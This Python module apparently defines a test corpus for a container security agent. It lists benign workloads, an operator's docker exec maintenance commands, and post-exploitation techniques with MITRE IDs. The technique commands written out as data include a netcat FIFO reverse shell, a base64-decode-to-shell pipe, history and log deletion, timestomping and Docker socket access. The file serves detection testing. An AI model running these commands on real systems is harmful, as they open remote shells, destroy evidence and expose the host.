# SPDX-License-Identifier: Apache-2.0
"""What the corpus runs: benign workloads, operator maintenance and attack techniques.

Every image is built from ``images/<name>/Dockerfile`` on top of the local base images that
``scripts/setup-host.sh`` makes (``riskguard-test/busybox``, ``riskguard-test/debian``): no
registry. Benign containers marked ``late`` start only after the learning period. Each attack
technique gets a container of its own (freezing stops its session), running an ordinary app, with
a shell session opened early by ``docker exec -i <c> sh``; the technique's command is written into
that session later, so the launch itself gives nothing away.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from pathlib import Path

IMAGES_DIR = Path(__file__).resolve().parent / "images"
BASE_IMAGES = ("riskguard-test/busybox", "riskguard-test/debian")
IMAGE_PREFIX = "riskguard-corpus/"
# Every corpus container carries this label; its value is the run id, and the agent enforces
# only on containers with the run's value.
LABEL = "riskguard.corpus"
NAME_PREFIX = "rgbc"
# The package pkginstall installs at start: built from images/pkginstall/deb with dpkg-deb.
DEB_SOURCE = "pkginstall/deb"
DEB_FILE = "rg-hello.deb"


@dataclass(frozen=True)
class Workload:
    """One benign container and the proof, in its own output, that it did its work."""

    role: str
    image: str  # a folder under images/
    what: str
    late: bool = False  # started after the learning period
    network: bool = False  # on the corpus bridge (the test sends it requests); else --network none
    proof: str = ""  # a line of ``docker logs`` that shows the workload ran …
    min_proofs: int = 1  # … at least this many times
    healthcheck: bool = False  # also: Docker reports it healthy, every probe passing


BENIGN: tuple[Workload, ...] = (
    Workload("shellapp", "shellapp", "shell-script app: loop runs `sh /app/job.sh` and hook scripts", proof="done"),
    Workload("shellapp-late", "shellapp", "the same app, started after learning", late=True, proof="done"),
    Workload("cron", "cron", "busybox crond -f running a job every minute", proof="cron job ran", min_proofs=2),
    Workload(
        "nginx-1",
        "nginxish",
        "nginx-style entrypoint: /docker-entrypoint.d/*.sh hooks calling sh -c, then httpd",
        late=True,
        proof="Configuration complete; ready for start up",
    ),
    Workload("nginx-2", "nginxish", "a second nginx-style container", late=True, proof="ready for start up"),
    Workload("health", "health", "busybox httpd with a Docker HEALTHCHECK every 2 s", healthcheck=True),
    Workload(
        "pyapp",
        "pyapp",
        "Python web app, /report runs subprocess(..., shell=True)",
        network=True,
        proof="GET /report",
        min_proofs=10,
    ),
    Workload(
        "pyapp-late", "pyapp", "the Python app, started after learning", late=True, network=True, proof="GET /report"
    ),
    Workload("pkg", "pkginstall", "apt-get install ./rg-hello.deb at start", proof="hello from rg-hello"),
    Workload("pkg-late", "pkginstall", "the same install, after learning", late=True, proof="hello from rg-hello"),
    Workload(
        "logrotate",
        "logrotate",
        "cron-run rotation: app.log -> app.log.1 -> gzip, recreate",
        proof="rotated /var/log/app.log",
        min_proofs=2,
    ),
)

# An operator's maintenance with `docker exec` (role, argv), played a few times during the run;
# the late containers' commands only after they started.
OPERATOR: tuple[tuple[str, tuple[str, ...]], ...] = (
    ("shellapp", ("ls", "-l", "/app")),
    ("shellapp", ("cat", "/app/config.ini")),
    ("shellapp", ("ps",)),
    ("shellapp", ("tail", "-n", "5", "/var/log/app/job.log")),
    ("shellapp", ("sh", "-c", "ls /var/log/app | wc -l")),
    ("cron", ("cat", "/etc/crontabs/root")),
    ("cron", ("ps",)),
    ("logrotate", ("ls", "-l", "/var/log")),
    ("logrotate", ("tail", "-n", "3", "/var/log/app.log")),
    ("pyapp", ("cat", "/app/server.py")),
    ("pyapp", ("tail", "-n", "2", "/etc/os-release")),
    ("pkg", ("cat", "/var/lib/rg-hello/state")),
    ("nginx-1", ("cat", "/etc/httpd/conf.d/default.conf")),
    ("nginx-1", ("ps",)),
    ("health", ("cat", "/var/www/health")),
)


@dataclass(frozen=True)
class Technique:
    """A post-exploitation technique, written into a shell session already open in its container."""

    name: str
    mitre: str
    what: str
    command: str
    must_isolate: bool = False  # the container must be frozen within ISOLATE_SECONDS
    image: str = "target"
    setup: str = ""  # written into the session when it opens (long before the command)
    docker_socket: bool = False  # /var/run/docker.sock mounted read-only
    listener_port: int = 0  # the attacker's listener, run by the test in the container's netns


ISOLATE_SECONDS = 1.0
REVERSE_PORT = 4444
# what the decode-and-exec payload runs: reconnaissance only
_PAYLOAD = base64.b64encode(b"id; uname -a; cat /etc/hostname\n").decode()

TECHNIQUES: tuple[Technique, ...] = (
    Technique(
        "process_discovery",
        "T1057",
        "ps, then every /proc/*/cmdline",
        "ps; cat /proc/*/cmdline; echo",
    ),
    Technique(
        "reverse_shell_fifo",
        "T1059.004",
        "FIFO reverse shell: nc to the attacker's listener, a shell between the pipes",
        f"rm -f /tmp/f; mkfifo /tmp/f; nc 127.0.0.1 {REVERSE_PORT} < /tmp/f | sh > /tmp/f 2>&1",
        must_isolate=True,
        listener_port=REVERSE_PORT,
    ),
    Technique(
        "decode_exec",
        "T1140",
        "base64 decode piped into a shell",
        f"echo {_PAYLOAD} | base64 -d | sh",
        must_isolate=True,
    ),
    Technique(
        "history_clearing",
        "T1070.003",
        "unset HISTFILE and delete the shell history",
        "unset HISTFILE; rm ~/.ash_history",
        setup="export HISTFILE=/root/.ash_history",
    ),
    Technique("log_deletion", "T1070.002", "delete every file under /var/log", "rm /var/log/*"),
    Technique(
        "timestomp",
        "T1070.006",
        "backdate a dropped binary (touch -d, touch -r)",
        "touch -d '2020-01-01 00:00:00' /bin/busybox-copy; touch -r /bin/sh /bin/busybox-copy",
        setup="cp /bin/busybox /bin/busybox-copy",
    ),
    Technique(
        "docker_socket",
        "T1609",
        "the mounted Docker socket: curl --unix-socket GET /_ping",
        "curl -s --unix-socket /var/run/docker.sock http://localhost/_ping; echo",
        must_isolate=True,
        image="pyapp",
        docker_socket=True,
    ),
)


def attack_role(t: Technique) -> str:
    """The role (container name suffix) of a technique's container."""
    return f"atk-{t.name.replace('_', '-')}"


def images() -> tuple[str, ...]:
    """Every corpus image folder, in build order."""
    used = [w.image for w in BENIGN] + [t.image for t in TECHNIQUES]
    return tuple(dict.fromkeys(used))
